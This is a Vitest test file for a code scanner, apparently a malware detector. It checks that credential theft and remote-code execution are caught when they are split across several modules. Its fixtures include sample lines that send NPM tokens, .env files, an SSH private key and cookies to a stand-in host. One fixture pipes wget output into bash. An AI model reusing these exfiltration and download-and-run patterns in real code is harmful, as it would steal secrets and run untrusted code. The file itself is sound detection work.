import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeAll, describe, expect, test } from 'vitest'
import { besideOf } from '../../../../../electron/core/scan/child/beside'
import { scanFile } from '../../../../../electron/core/scan/child/scan-file'
import { loadSourceEngine } from '../../../../../electron/core/scan/child/source-engine'
import { LIMITS } from '../../../../fixtures/limits'

const folder = mkdtempSync(join(realpathSync(tmpdir()), 'delivery-'))
beforeAll(loadSourceEngine)
afterEach(() => rmSync(folder, { recursive: true, force: true }))

/** Writes the files and says what is seen in the one that is named first. */
function seen(files: Record<string, string>) {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true })
    writeFileSync(join(folder, name), text)
  }
  const [first = ''] = Object.keys(files)
  const absolutePath = join(folder, first)
  const task = { id: 1, absolutePath, displayPath: first }
  const result = scanFile(task, LIMITS, false, () => {})
  const codes = result.facts.filter(({ kind }) => kind === 'code')
  return { ...result, names: codes.map(({ name }) => name), codes }
}

const ECHO = Buffer.from("require('child_process').execSync('echo harmless')").toString('base64')

const WAYS: readonly [what: string, fact: string, files: Record<string, string>][] = [
  [
    'names of variables that another module exports',
    'flow.environment.network',
    {
      'index.js':
        "import { URL_, KEYS } from './config.js'; fetch(URL_, { method: 'POST', body: JSON.stringify(KEYS.map((k) => process.env[k])), }); fetch(URL_, { method: 'POST', body: process.env.NPM_TOKEN })",
      'config.js':
        "export const URL_ = 'https://example.invalid/x'; export const KEYS = ['NPM_TOKEN']",
    },
  ],
  [
    'a file with secrets that a CommonJS module reads',
    'flow.credentials.network',
    {
      'lib/a.js':
        "const { read } = require('./b'); require('axios').post('https://example.invalid', read())",
      'lib/b.js': "exports.read = () => require('fs').readFileSync('.env', 'utf8')",
    },
  ],
  [
    'a module that sends what it is handed',
    'flow.environment.network',
    {
      'a.ts':
        "import { out } from './b'; void out.send({ token: process.env.NPM_TOKEN as string })",
      'b.ts':
        "class Out { constructor(private readonly base: string) {} send(d: unknown): void { void fetch(this.base, { method: 'POST', body: JSON.stringify(d) }) } } export const out = new Out('https://example.invalid')",
    },
  ],
  [
    'a payload that is the default export of another module',
    'flow.decoded.eval',
    {
      'a.mjs': "import text from './b.mjs'; eval(atob(text))",
      'b.mjs': `export default '${ECHO}'`,
    },
  ],
  [
    'code that compiled TypeScript fetches in one module and runs in another',
    'flow.network.eval',
    {
      'a.js':
        "const source_1 = require('./source'); const run_1 = require('./run'); (async () => { const text = await (0, source_1.get)(); (0, run_1.run)(text) })()",
      'source.js':
        "Object.defineProperty(exports, '__esModule', { value: true }); exports.get = get; async function get() { return (await fetch('https://example.invalid/x.js')).text() }",
      'run.js':
        "const vm = require('vm'); function run(t) { new vm.Script(t).runInNewContext({ require }) } exports.run = run",
    },
  ],
  [
    'names in a JSON file beside it',
    'threat.download-and-run',
    {
      'a.js': "const s = require('./names.json'); require(s.a)[s.b](s.c, () => {})",
      'names.json':
        '{"a":"child_process","b":"exec","c":"wget -qO- https://example.invalid/x | bash"}',
    },
  ],
  [
    'what a module passes on from another folder',
    'flow.credentials.network',
    {
      'src/a.ts':
        "import { key } from '../lib/index.js'; fetch('https://example.invalid', { method: 'POST', body: key })",
      'lib/index.ts': "export * from './deep/key'",
      'lib/deep/key.ts':
        "import { readFileSync } from 'node:fs'; export const key = readFileSync('/root/.ssh/id_rsa', 'utf8')",
    },
  ],
  [
    'what the script of a page hands to a module',
    'flow.credentials.network',
    {
      'index.html':
        "<script type=module>import { send } from './send.js'; send(document.cookie)</script>",
      'send.js': "export const send = (c) => fetch('https://example.invalid/?c=' + c)",
    },
  ],
]

describe('Values go from one file of a delivery into another', () => {
  test.each(WAYS)('%s', (_what, fact, files) => {
    expect(seen(files).names).toContain(fact)
  })

  test('a step in the other module is shown where that module is brought in', () => {
    const { codes } = seen({
      'a.js':
        "const { key } = require('./b')\n\nfetch('https://example.invalid', { method: 'POST', body: key })",
      'b.js': "exports.key = require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8')",
    })
    const flow = codes.find(({ name }) => name === 'flow.credentials.network')
    expect(flow?.location.line).toBe(3)
    expect(flow?.path?.[0]).toMatchObject({
      label: 'in b.js: reads a file with secrets',
      line: 1,
    })
  })

  test('what another module does by itself is told in that module', () => {
    const { names } = seen({
      'a.js': "require('./b')",
      'b.js': "fetch('https://example.invalid', { method: 'POST', body: process.env.NPM_TOKEN })",
    })
    expect(names).toEqual([])
  })

  test('modules that bring each other in come to an end', () => {
    expect(
      seen({
        'a.js': "export { b } from './b.js'; export const a = 1",
        'b.js': "import { a } from './a.js'; export const b = () => a",
      }).status,
    ).toBe('complete')
  })

  test('a result names the files it depends on, also those that are not there', () => {
    const { beside = [] } = seen({ 'a.js': "require('./b')", 'b/index.js': '' })
    const there = beside.filter(({ state }) => state !== null).map(({ path }) => path)
    expect(there).toEqual(['b/index.js'])
    expect(beside.map(({ path }) => path)).toContain('b.js')
    expect(seen({ 'a.js': "require('fs')" }).beside).toBeUndefined()
  })

  test('a link in the place of a module is not followed', () => {
    mkdirSync(join(folder, 'real'), { recursive: true })
    writeFileSync(join(folder, 'real', 'b.js'), 'exports.a = 1')
    symlinkSync(join(folder, 'real'), join(folder, 'linked'))
    symlinkSync(join(folder, 'real', 'b.js'), join(folder, 'c.js'))
    const beside = besideOf(join(folder, 'a.js'))
    expect(beside.read('real/b.js')?.toString()).toBe('exports.a = 1')
    expect(beside.read('linked/b.js')).toBeUndefined()
    expect(beside.read('c.js')).toBeUndefined()
  })
})
